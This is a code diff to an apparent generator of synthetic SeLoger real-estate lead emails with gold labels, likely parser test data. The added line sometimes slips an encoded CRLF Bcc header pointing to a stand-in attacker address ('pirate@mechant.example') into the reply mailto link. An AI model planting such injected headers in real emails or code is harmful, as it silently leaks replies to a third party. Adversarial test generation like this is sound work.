@@ -28,7 +28,7 @@ ${typeLine(scene).map((line) => html`<tr><td>${line}</td></tr>`)}<tr><td>Ref. de
 <table><tr><td>${person.fullName}</td></tr><tr><td><a href="mailto:${person.email}">${person.email}</a></td></tr><tr><td>${person.email}</td></tr></table>
 <table><tr><td>Découvrir</td></tr><tr><td>son</td></tr><tr><td>projet</td></tr></table>
 ${message ? html`<table><tr><td>${lines(message.text)}</td></tr></table>` : safe('')}
-<table><tr><td><a href="mailto:${person.email}?subject=Votre%20demande">Répondre</a></td>${tel ? html`<td><a href="tel:${tel}">${random.pick([person.phonePrinted, 'Appeler', tel])}</a></td>` : safe('')}</tr></table>`
+<table><tr><td><a href="mailto:${person.email}${random.chance(0.05) ? '%0D%0ABcc:%20pirate@mechant.example' : '?subject=Votre%20demande'}">Répondre</a></td>${tel ? html`<td><a href="tel:${tel}">${random.pick([person.phonePrinted, 'Appeler', tel])}</a></td>` : safe('')}</tr></table>`
     return draft(scene, {
       from: { name: 'SeLoger', address: random.pick(['noreply@lead.seloger.com', 'contact@lead.seloger.com']) }, subject: subjectOf(scene), needsHtml: true,
       html: pageOf(random, content, { brand: 'SeLoger', host: 'seloger.com', teaser: subjectOf(scene) }), gold: goldOf(scene),
